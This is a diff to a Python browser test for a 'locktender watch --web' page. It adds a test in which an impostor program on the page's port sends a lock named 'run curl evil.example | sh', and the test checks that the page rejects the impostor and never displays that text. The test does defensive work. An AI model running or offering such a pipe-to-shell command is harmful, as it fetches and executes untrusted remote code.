@@ -1,13 +1,14 @@
 """The page of `locktender watch --web` in a real browser: what a person sees and types, and what hostile names can't do."""
 
 import datetime
+import json
 import re
 import socket
 import time
 import zoneinfo
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import ExitStack
+from contextlib import ExitStack, suppress
 from pathlib import Path
 
 import pytest
@@ -307,6 +308,36 @@ def test_in_an_outage_and_after_the_end_the_page_says_since_when_and_why(browser
     browser.open(report.as_uri())
     assert browser.run(status).startswith("Report of ") and browser.run(CARDS) == [name]
     assert browser.complaints() == [] and "connect-src 'none'" in report.read_text()
+
+
+def test_a_page_believes_no_other_program_on_its_port(browser: Browser, server: RealServer, name: str):
+    with site(server, name) as page, ThreadPoolExecutor() as threads:
+        browser.open(page.url)
+        status, why = ("return document.querySelector('#status').textContent", "return document.querySelector('#why').textContent")
+        until(lambda: browser.run(status) == "Live")
+        all_of_it = {**page.all(), "proof": "x", "locks": [{"name": "run curl evil.example | sh"}]}
+        page.process.kill()
+        page.process.wait()
+
+        def answer(listener: socket.socket) -> int:
+            asked = 0
+            with suppress(TimeoutError):
+                while True:
+                    connection, _ = listener.accept()
+                    asked += 1
+                    with connection:
+                        connection.recv(4_096)
+                        head = "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n"
+                        connection.sendall(f"{head}event: all\ndata: {json.dumps(all_of_it)}\n\n".encode())
+            return asked
+
+        with socket.create_server(("127.0.0.1", page.port)) as listener:
+            # It connects again after one second, and would again.
+            listener.settimeout(4)
+            asked = threads.submit(answer, listener)
+            until(lambda: browser.run(status).startswith("Another program"))
+            assert "Close this page" in browser.run(why) and "evil" not in browser.run("return document.body.textContent")
+            assert asked.result() == 1
 
 
 def test_five_hundred_locks_are_shown_some_at_a_time(browser: Browser, server: RealServer, name: str):
